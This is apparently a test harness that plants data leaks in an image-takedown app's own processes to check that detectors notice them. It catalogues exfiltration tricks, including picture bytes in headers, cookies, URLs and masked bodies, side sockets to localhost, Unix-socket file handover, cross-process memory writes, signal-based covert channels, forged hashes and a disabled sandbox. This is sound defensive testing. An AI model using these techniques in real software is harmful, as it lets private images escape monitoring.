"""The leak zoo: the app's own processes with a leak planted in them, to see that somebody notices.

    python -I zoo.py ROOT window  LEAK CONFIG    stands in for the window: hashes, composes, writes
    python -I zoo.py ROOT courier LEAK CONFIG    the real courier, its requests passed by the leak

No wall is raised: here the leaks are meant to get out, and the detectors to see them. CONFIG is
JSON: {"pictures": [...], "home", "origin", "elsewhere" (a port), "unix", "victim", "key", "case"}.
"""

from __future__ import annotations

import base64
import ctypes
import gzip
import hashlib
import io
import json
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

Leak = Callable[["Scene"], None]
WINDOW: dict[str, Leak] = {}
COURIER: dict[str, Leak] = {}


class Scene:
    """What a leak has at hand: the pictures, and the request (courier) or the line (window)."""

    def __init__(self, config: dict[str, Any]) -> None:
        self.pictures = [Path(path) for path in config["pictures"]]
        self.picture = self.pictures[0].read_bytes()
        self.home = Path(config["home"])
        self.elsewhere, self.unix = int(config["elsewhere"]), str(config["unix"])
        self.victim = int(config["victim"])
        self.line = b""
        self.asked: dict[str, Any] = {}
        self.again = 0

    def pixels(self) -> bytes:
        from PIL import Image

        return Image.open(io.BytesIO(self.picture)).convert("RGB").tobytes()

    def body(self, data: bytes) -> None:
        self.asked["data"] = data
        self.asked["headers"]["Content-Length"] = str(len(data))


def in_window(name: str) -> Callable[[Leak], Leak]:
    return lambda leak: WINDOW.setdefault(name, leak)


def in_courier(name: str) -> Callable[[Leak], Leak]:
    return lambda leak: COURIER.setdefault(name, leak)


# ---- in the request ---------------------------------------------------------------------------


@in_courier("the file behind the document")
def raw(scene: Scene) -> None:
    scene.body(scene.asked["data"] + scene.picture)


@in_courier("base64 in the document")
def in_json(scene: Scene) -> None:
    fields = json.loads(scene.asked["data"]) | {"x": base64.b64encode(scene.picture).decode()}
    scene.body(json.dumps(fields).encode())


@in_courier("hexadecimal in a header")
def header(scene: Scene) -> None:
    scene.asked["headers"]["X-Trace"] = scene.picture[:900].hex()


@in_courier("packed pixels in base 85")
def packed(scene: Scene) -> None:
    scene.body(scene.asked["data"] + base64.b85encode(zlib.compress(scene.pixels())))


@in_courier("every byte turned by a mask")
def masked(scene: Scene) -> None:
    scene.body(scene.asked["data"] + bytes(byte ^ 0x55 for byte in scene.picture))


@in_courier("a small copy, encoded anew")
def thumbnail(scene: Scene) -> None:
    from PIL import Image

    small = io.BytesIO()
    Image.open(io.BytesIO(scene.picture)).convert("RGB").resize((32, 32)).save(small, "JPEG")
    scene.body(scene.asked["data"] + small.getvalue())


@in_courier("encrypted")
def encrypted(scene: Scene) -> None:
    stream = b"".join(
        hashlib.sha256(b"key%d" % block).digest() for block in range(len(scene.picture) // 32 + 1)
    )
    scene.body(
        scene.asked["data"] + bytes(a ^ b for a, b in zip(scene.picture, stream, strict=False))
    )


@in_courier("the file's name as the program's")
def agent(scene: Scene) -> None:
    scene.asked["headers"]["User-Agent"] = f"takeitdown {scene.pictures[0].name}"


@in_courier("a text from the file's EXIF")
def exif(scene: Scene) -> None:
    from PIL import Image

    text = Image.open(io.BytesIO(scene.picture)).getexif()[0x010E]
    scene.asked["headers"]["X-Note"] = text


@in_courier("sixteen bytes as the request's number")
def number(scene: Scene) -> None:
    scene.asked["headers"]["Idempotency-Key"] = scene.picture[-20:-4].hex()


@in_courier("the length of the body")
def length(scene: Scene) -> None:
    scene.body(scene.asked["data"] + b" " * (len(scene.picture) % 997))


@in_courier("the address")
def path(scene: Scene) -> None:
    scene.asked["url"] += f"?v={scene.picture[100:140].hex()}"


@in_courier("a cookie")
def cookie(scene: Scene) -> None:
    scene.asked["headers"]["Cookie"] = f"s={base64.b64encode(scene.picture[:99]).decode()}"


@in_courier("the host's name")
def host(scene: Scene) -> None:
    scene.asked["headers"]["Host"] = f"{scene.picture[50:66].hex()}.example.org"


@in_courier("the order of the pictures")
def order(scene: Scene) -> None:
    fields = json.loads(scene.asked["data"])
    fields["pictures"].reverse()
    scene.body(json.dumps(fields, sort_keys=True, separators=(",", ":")).encode())


@in_courier("white space in the document")
def white(scene: Scene) -> None:
    scene.body(scene.asked["data"].replace(b",", b", ", scene.picture[99] % 7 + 1))


@in_courier("the order of the headers")
def header_order(scene: Scene) -> None:
    scene.asked["headers"] = dict(sorted(scene.asked["headers"].items(), reverse=True))


@in_courier("the case of the headers")
def header_case(scene: Scene) -> None:
    scene.asked["headers"] = {
        name.upper() if bit else name: value
        for (name, value), bit in zip(
            scene.asked["headers"].items(), [1, 0, 1, 1, 0, 0, 1, 0], strict=False
        )
    }


@in_courier("a packed document")
def zipped(scene: Scene) -> None:
    scene.asked["headers"]["Content-Encoding"] = "gzip"
    scene.body(gzip.compress(scene.asked["data"] + scene.picture))


@in_courier("how often it asks")
def retries(scene: Scene) -> None:
    scene.again = scene.picture[99] % 3 + 1


@in_courier("split over ten requests")
def split(scene: Scene) -> None:
    scene.again = 9
    scene.asked["headers"]["X-Part"] = scene.picture[:20].hex()


@in_courier("another method")
def method(scene: Scene) -> None:
    scene.asked["method"] = "POST"


# ---- beside the request -----------------------------------------------------------------------


@in_courier("questions to a name server")
def name_server(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.sendto(b"\0" * 12 + scene.picture[:60], ("127.0.0.1", scene.elsewhere))


@in_courier("a second connection")
def second(scene: Scene) -> None:
    with socket.create_connection(("127.0.0.1", scene.elsewhere)) as out:
        out.sendall(scene.picture)


@in_courier("the number of its own port")
def port(scene: Scene) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.bind(("127.0.0.1", 20000 + scene.picture[99] * 100))


@in_courier("the file sent by the kernel")
def sendfile(scene: Scene) -> None:
    with (
        scene.pictures[0].open("rb") as file,
        socket.create_connection(("127.0.0.1", scene.elsewhere)) as out,
    ):
        os.sendfile(out.fileno(), file.fileno(), 0, len(scene.picture))


@in_courier("a line too many to the launcher")
def line(scene: Scene) -> None:
    os.write(1, base64.b64encode(scene.picture) + b"\n")


# ---- from the window ----------------------------------------------------------------------------


@in_window("a connection of its own")
def connection(scene: Scene) -> None:
    second(scene)


@in_window("a datagram")
def datagram(scene: Scene) -> None:
    name_server(scene)


@in_window("a local socket to another program")
def local(scene: Scene) -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out:
        out.connect(scene.unix)
        out.sendall(scene.picture)


@in_window("the opened file handed to another program")
def hand_over(scene: Scene) -> None:
    with (
        scene.pictures[0].open("rb") as file,
        socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as out,
    ):
        out.connect(scene.unix)
        socket.send_fds(out, [b"x"], [file.fileno()])


@in_window("a program that sends it")
def child(scene: Scene) -> None:
    send = f"import socket;socket.create_connection(('127.0.0.1',{scene.elsewhere})).send(b'x')"
    subprocess.run([sys.executable, "-I", "-c", send], check=True)


@in_window("a copy in a synced folder")
def synced(scene: Scene) -> None:
    (scene.home / "Dropbox").mkdir()
    (scene.home / "Dropbox" / "copy").write_bytes(scene.picture)


@in_window("a copy in shared memory")
def shared(scene: Scene) -> None:
    name = Path(f"/dev/shm/zoo{os.getpid()}")
    name.write_bytes(scene.picture)
    name.unlink()


@in_window("a copy in the temporary folder")
def temporary(scene: Scene) -> None:
    name = Path(f"/tmp/zoo{os.getpid()}")
    name.write_bytes(scene.picture)
    name.unlink()


@in_window("a name that says it")
def name(scene: Scene) -> None:
    (scene.home / scene.picture[:30].hex()).mkdir()


@in_window("a link to it")
def link(scene: Scene) -> None:
    os.link(scene.pictures[0], scene.home / "copy.jpg")


@in_window("a log that is a link elsewhere")
def log(scene: Scene) -> None:
    (scene.home / "log").symlink_to(scene.home / "real")
    (scene.home / "log").write_bytes(scene.picture[:100])


@in_window("a file that others map")
def mapped(scene: Scene) -> None:
    with open(scene.home / "prepared", "r+b") as file, mmap.mmap(file.fileno(), 64) as pages:
        pages[:64] = scene.picture[:64]


@in_window("an attribute of a file")
def attribute(scene: Scene) -> None:
    os.setxattr(scene.home / "prepared", "user.zoo", scene.picture[:64])


def _call(number: int, *arguments: Any) -> int:
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return int(ctypes.CDLL(None).syscall(ctypes.c_long(number), *words))


_ARM = os.uname().machine == "aarch64"


@in_window("io_uring")
def ring(scene: Scene) -> None:
    _call(425, 4, ctypes.create_string_buffer(120))


@in_window("System V memory")
def system_v(scene: Scene) -> None:
    segment = _call(194 if _ARM else 29, 0, 4096, 0o1600)
    _call(195 if _ARM else 31, segment, 0, 0)


@in_window("a message queue")
def message_queue(scene: Scene) -> None:
    name = f"zoo{os.getpid()}".encode()
    _call(180 if _ARM else 240, name, os.O_CREAT | os.O_RDWR, 0o600, None)
    _call(181 if _ARM else 241, name)


@in_window("the key ring")
def key_ring(scene: Scene) -> None:
    _call(217 if _ARM else 248, b"user", b"zoo", scene.picture[:64], 64, -2)


@in_window("another program's memory")
def other_memory(scene: Scene) -> None:
    here = ctypes.create_string_buffer(b"a picture")
    vector = struct.pack("=QQ", ctypes.addressof(here), 9)
    _call(271 if _ARM else 311, scene.victim, vector, 1, vector, 1, 0)


@in_window("another program's memory through /proc")
def other_memory_file(scene: Scene) -> None:
    os.close(os.open(f"/proc/{scene.victim}/mem", os.O_RDWR))


@in_window("a program in memory")
def memory_program(scene: Scene) -> None:
    os.write(os.memfd_create("zoo"), scene.picture[:64])


@in_window("the key in the line")
def key(scene: Scene) -> None:
    fields = json.loads(scene.line)
    fields["key"] = scene.picture[:32].hex()
    scene.line = json.dumps(fields).encode() + b"\n"


@in_window("a field more in the line")
def field(scene: Scene) -> None:
    fields = json.loads(scene.line) | {"note": base64.b64encode(scene.picture).decode()}
    scene.line = json.dumps(fields).encode() + b"\n"


@in_window("a false PDQ")
def false_pdq(scene: Scene) -> None:
    fields = json.loads(scene.line)
    document = json.loads(fields["document"])
    document["pictures"][0]["alike"]["pdq"] = scene.picture[:32].hex()
    fields["document"] = json.dumps(document, sort_keys=True, separators=(",", ":"))
    scene.line = json.dumps(fields).encode() + b"\n"


@in_window("a false SHA-1")
def false_sha1(scene: Scene) -> None:
    fields = json.loads(scene.line)
    document = json.loads(fields["document"])
    document["pictures"][-1]["sha1"] = scene.picture[:20].hex()
    fields["document"] = json.dumps(document, sort_keys=True, separators=(",", ":"))
    scene.line = json.dumps(fields).encode() + b"\n"


@in_window("complaints on standard error")
def complaint(scene: Scene) -> None:
    sys.stderr.write(f"cannot read {scene.pictures[0]}\n")


@in_window("a signal to another program")
def other_signal(scene: Scene) -> None:
    for bit in f"{scene.picture[99]:08b}":
        if bit == "1":
            os.kill(scene.victim, signal.SIGWINCH)


# ---- the two processes --------------------------------------------------------------------------


def window(leak: str, config: dict[str, Any]) -> None:
    """Pictures in, the line for the courier out: the way of the window, without its pages."""
    from takeitdown.hashing import hasher
    from takeitdown.steps import submission, wire
    from takeitdown.steps.confirmation import Age, Reach, Statement, confirm
    from takeitdown.steps.picture import choose

    now = datetime.now(UTC)
    scene = Scene(config)
    found = tuple(hasher.fingerprint(choose(path, now)) for path in scene.pictures)
    said = confirm(found, Age.UNDER_18, Reach.ALIKE, Statement.DEPICTED_OR_HELPING, now)
    (sent,) = submission.compose(said, config["case"], practice=False)
    scene.line = wire.write(wire.Deliver(sent.document, config["key"]))
    WINDOW.get(leak, lambda _: None)(scene)
    sys.stdout.buffer.write(scene.line)
    sys.stdout.buffer.flush()


def courier(leak: str, config: dict[str, Any]) -> int:
    """The courier's own `main`, with every request passed by the leak first."""
    import requests

    from takeitdown import wall
    from takeitdown.courier import __main__ as real

    no_wall = wall.WallReport("courier", "other", (), (), (), ())
    wall.raise_courier_wall = lambda _: no_wall
    request = requests.Session.request

    def passed_by(session: requests.Session, method: str, url: str, **asked: Any) -> Any:
        scene = Scene(config)
        scene.asked = {"method": method, "url": url, **asked}
        COURIER[leak](scene)
        for _ in range(scene.again):
            request(session, **scene.asked).close()
        return request(session, **scene.asked)

    if leak in COURIER:
        requests.Session.request = passed_by  # type: ignore[method-assign, assignment]
    return real.main(["--origin", config["origin"]])


if __name__ == "__main__":
    sys.path[:0] = [sys.argv[1]]
    settings = json.loads(sys.argv[4])
    if sys.argv[2] == "window":
        window(sys.argv[3], settings)
    else:
        raise SystemExit(courier(sys.argv[3], settings))
